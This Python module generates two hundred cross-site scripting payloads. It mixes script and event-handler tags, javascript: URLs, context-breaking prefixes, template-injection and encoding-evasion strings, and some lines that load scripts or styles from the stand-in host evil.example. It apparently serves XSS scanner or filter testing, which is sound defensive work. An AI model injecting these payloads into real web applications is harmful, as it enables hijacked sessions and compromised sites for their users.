"""Two hundred ways of writing a script where text is expected."""

from __future__ import annotations

from itertools import product

MARK = "wkxss"
_RUN = f"alert('{MARK}')"
_TAGS = (
    "<script>{run}</script>",
    "<script src=//evil.example/{mark}.js></script>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="javascript:{run}"></object>',
    '<embed src="javascript:{run}">',
    '<a href="javascript:{run}">x</a>',
    '<form action="javascript:{run}"><button>x</button></form>',
    '<button formaction="javascript:{run}">x</button>',
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    '<math><maction actiontype="statusline" xlink:href="javascript:{run}">x</maction></math>',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<base href="//evil.example/{mark}/">',
    '<link rel=stylesheet href="//evil.example/{mark}.css">',
    "<style>*{{background:url(//evil.example/{mark})}}</style>",
    '<div style="background:url(javascript:{run})">x</div>',
    "<template><script>{run}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<xss-{mark} onclick={run}>x</xss-{mark}>",
    '<p hx-get="//evil.example/{mark}" hx-trigger=load>x</p>',
)
_BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>")
_ALONE = (
    '" onmouseover="{run}" x="',
    "' onmouseover='{run}' x='",
    '" autofocus onfocus={run} x="',
    "` onerror={run} `",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "{{% raw %}}<script>{run}</script>{{% endraw %}}",
    "<%= {run} %>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "\u2028<script>{run}</script>\u2029",
    "]]><script>{run}</script><![CDATA[",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(end + tag.format(run=_RUN, mark=MARK) for end, tag in product(_BREAKS, _TAGS)),
            *(each.format(run=_RUN, mark=MARK) for each in _ALONE),
        ]
    )
)[:200]
"""Distinct; an unclosed comment, which would hide the others, stands nowhere among them."""
